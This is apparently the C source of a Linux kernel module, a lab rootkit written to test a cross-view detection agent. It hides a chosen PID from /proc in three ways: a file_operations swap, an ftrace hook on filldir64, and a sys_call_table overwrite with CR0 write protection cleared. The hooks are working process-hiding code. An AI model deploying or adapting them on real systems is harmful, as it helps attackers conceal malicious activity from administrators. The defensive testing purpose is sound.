// SPDX-License-Identifier: GPL-2.0
/*
 * vmsight_hide: a lab rootkit that hides one PID from the guest's own /proc listing, so that the
 * agent's cross-view (out-of-guest pslist against the guest's `ls /proc`) has something real to
 * find. Two ways, chosen by the `mode` parameter:
 *
 *   mode=fops    a data hook: the /proc root inode's file_operations pointer is replaced by a
 *                copy whose iterate_shared filters the listing. This is the dispatch-table hook of
 *                this kernel: 6.1.0-56 dispatches system calls through x64_sys_call's switch (the
 *                BHI mitigation, 6.1.85+), so a sys_call_table entry is no longer on any path and
 *                replacing it hides nothing.
 *   mode=ftrace  a code patch: the `call __fentry__` NOP at the start of filldir64 (the
 *                getdents64 callback) becomes a call into ftrace, which sends filldir64 to
 *                hide_filldir64.
 *   mode=sct     the classic: sys_call_table[__NR_getdents64] replaced (CR0.WP cleared for the
 *                write). The wrapper only counts its calls (/sys/module/vmsight_hide/parameters/
 *                sct_calls): on this kernel it stays 0, which is the point of this mode.
 *
 * Unloading restores what was changed. For the vmsight lab only: it never hides itself.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/fs.h>
#include <linux/namei.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/string.h>
#include <linux/syscalls.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmsight lab rootkit: hides one PID from /proc (fops or ftrace hook)");

static int hide_pid = -1;
module_param(hide_pid, int, 0444);
MODULE_PARM_DESC(hide_pid, "the PID to hide from /proc listings");

static char *mode = "ftrace";
module_param(mode, charp, 0444);
MODULE_PARM_DESC(mode, "fops (replace /proc's file_operations) or ftrace (patch filldir64)");

static char hidden_name[16];

static bool hidden(const char *name, int namlen)
{
	return namlen == strlen(hidden_name) && memcmp(name, hidden_name, namlen) == 0;
}

/* ---- mode=fops: the /proc root inode's i_fop points at a filtering copy ---- */

static struct inode *proc_root_inode;
static const struct file_operations *real_proc_root_fops;
static struct file_operations hide_proc_root_fops;

struct hide_ctx {
	struct dir_context ctx;
	struct dir_context *outer;
};

static bool hide_fill(struct dir_context *ctx, const char *name, int namlen, loff_t offset, u64 ino, unsigned int d_type)
{
	struct hide_ctx *h = container_of(ctx, struct hide_ctx, ctx);

	if (hidden(name, namlen))
		return true;
	h->outer->pos = ctx->pos;
	return h->outer->actor(h->outer, name, namlen, offset, ino, d_type);
}

static int hide_iterate_shared(struct file *file, struct dir_context *ctx)
{
	struct hide_ctx h = { .ctx.actor = hide_fill, .ctx.pos = ctx->pos, .outer = ctx };
	int ret = real_proc_root_fops->iterate_shared(file, &h.ctx);

	ctx->pos = h.ctx.pos;
	return ret;
}

static int fops_hook_install(void)
{
	struct path path;
	int err = kern_path("/proc", LOOKUP_FOLLOW, &path);

	if (err)
		return err;
	proc_root_inode = d_inode(path.dentry);
	ihold(proc_root_inode);
	path_put(&path);
	real_proc_root_fops = proc_root_inode->i_fop;
	if (!real_proc_root_fops->iterate_shared) {
		iput(proc_root_inode);
		return -EINVAL;
	}
	hide_proc_root_fops = *real_proc_root_fops;
	hide_proc_root_fops.iterate_shared = hide_iterate_shared;
	WRITE_ONCE(proc_root_inode->i_fop, &hide_proc_root_fops);
	return 0;
}

static void fops_hook_remove(void)
{
	WRITE_ONCE(proc_root_inode->i_fop, real_proc_root_fops);
	iput(proc_root_inode);
	synchronize_rcu();
}

/* ---- mode=ftrace: filldir64's fentry NOP becomes a call into ftrace ---- */

typedef bool (*filldir_fn)(struct dir_context *, const char *, int, loff_t, u64, unsigned int);
static unsigned long filldir64_address;

static bool hide_filldir64(struct dir_context *ctx, const char *name, int namlen, loff_t offset, u64 ino, unsigned int d_type)
{
	if (hidden(name, namlen))
		return true;
	/* re-enters the ftrace callback, which lets a call from this module through; not a tail
	 * call (Kbuild: -fno-optimize-sibling-calls), or the caller seen by ftrace is the kernel again */
	return ((filldir_fn)filldir64_address)(ctx, name, namlen, offset, ino, d_type);
}

static void notrace hide_ftrace_thunk(unsigned long ip, unsigned long parent_ip, struct ftrace_ops *ops, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)hide_filldir64;
}

static struct ftrace_ops hide_ftrace_ops = {
	.func = hide_ftrace_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

/* kallsyms_lookup_name is not exported since 5.7; a kprobe on it gives its address. */
static unsigned long lookup_name(const char *name)
{
	typedef unsigned long (*lookup_fn)(const char *);
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	lookup_fn lookup;

	if (register_kprobe(&kp) < 0)
		return 0;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? lookup(name) : 0;
}

static int ftrace_hook_install(void)
{
	int err;

	filldir64_address = lookup_name("filldir64");
	if (!filldir64_address)
		return -ENOENT;
	err = ftrace_set_filter_ip(&hide_ftrace_ops, filldir64_address, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&hide_ftrace_ops);
	if (err)
		ftrace_set_filter_ip(&hide_ftrace_ops, filldir64_address, 1, 0);
	return err;
}

static void ftrace_hook_remove(void)
{
	unregister_ftrace_function(&hide_ftrace_ops);
	ftrace_set_filter_ip(&hide_ftrace_ops, filldir64_address, 1, 0);
}

/* ---- mode=sct: sys_call_table[__NR_getdents64] replaced by a counting wrapper ---- */

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn *sys_call_table_address;
static syscall_fn real_getdents64;
static atomic_t sct_call_count = ATOMIC_INIT(0);
static int sct_calls;

static int sct_calls_get(char *buffer, const struct kernel_param *kp)
{
	return sprintf(buffer, "%d\n", atomic_read(&sct_call_count));
}

static const struct kernel_param_ops sct_calls_ops = { .get = sct_calls_get };
module_param_cb(sct_calls, &sct_calls_ops, &sct_calls, 0444);
MODULE_PARM_DESC(sct_calls, "calls that reached the replaced sys_call_table entry (mode=sct)");

static long sct_getdents64(const struct pt_regs *regs)
{
	atomic_inc(&sct_call_count);
	return real_getdents64(regs);
}

/* sys_call_table is read-only after boot: clear CR0.WP around the write (native_write_cr0 refuses to). */
static void write_table_entry(syscall_fn *slot, syscall_fn value)
{
	unsigned long cr0 = read_cr0();

	preempt_disable();
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~X86_CR0_WP) : "memory");
	WRITE_ONCE(*slot, value);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	preempt_enable();
}

static int sct_hook_install(void)
{
	sys_call_table_address = (syscall_fn *)lookup_name("sys_call_table");
	if (!sys_call_table_address)
		return -ENOENT;
	real_getdents64 = sys_call_table_address[__NR_getdents64];
	write_table_entry(&sys_call_table_address[__NR_getdents64], sct_getdents64);
	return 0;
}

static void sct_hook_remove(void)
{
	write_table_entry(&sys_call_table_address[__NR_getdents64], real_getdents64);
	synchronize_rcu();
}

enum hide_mode { MODE_FOPS, MODE_FTRACE, MODE_SCT };
static enum hide_mode hide_mode;

static int __init hide_init(void)
{
	int err;

	if (hide_pid <= 0) {
		pr_err("vmsight_hide: hide_pid=N is required\n");
		return -EINVAL;
	}
	snprintf(hidden_name, sizeof hidden_name, "%d", hide_pid);
	if (strcmp(mode, "fops") == 0) {
		hide_mode = MODE_FOPS;
		err = fops_hook_install();
	} else if (strcmp(mode, "ftrace") == 0) {
		hide_mode = MODE_FTRACE;
		err = ftrace_hook_install();
	} else if (strcmp(mode, "sct") == 0) {
		hide_mode = MODE_SCT;
		err = sct_hook_install();
	} else {
		pr_err("vmsight_hide: mode=%s: use fops, ftrace or sct\n", mode);
		return -EINVAL;
	}
	if (err) {
		pr_err("vmsight_hide: mode=%s failed: %d\n", mode, err);
		return err;
	}
	if (hide_mode == MODE_SCT)
		pr_info("vmsight_hide: sys_call_table[%d] replaced, meant to hide PID %d\n", __NR_getdents64, hide_pid);
	else
		pr_info("vmsight_hide: hiding PID %d (mode=%s)\n", hide_pid, mode);
	return 0;
}

static void __exit hide_exit(void)
{
	if (hide_mode == MODE_FOPS)
		fops_hook_remove();
	else if (hide_mode == MODE_FTRACE)
		ftrace_hook_remove();
	else
		sct_hook_remove();
	pr_info("vmsight_hide: PID %d visible again\n", hide_pid);
}

module_init(hide_init);
module_exit(hide_exit);
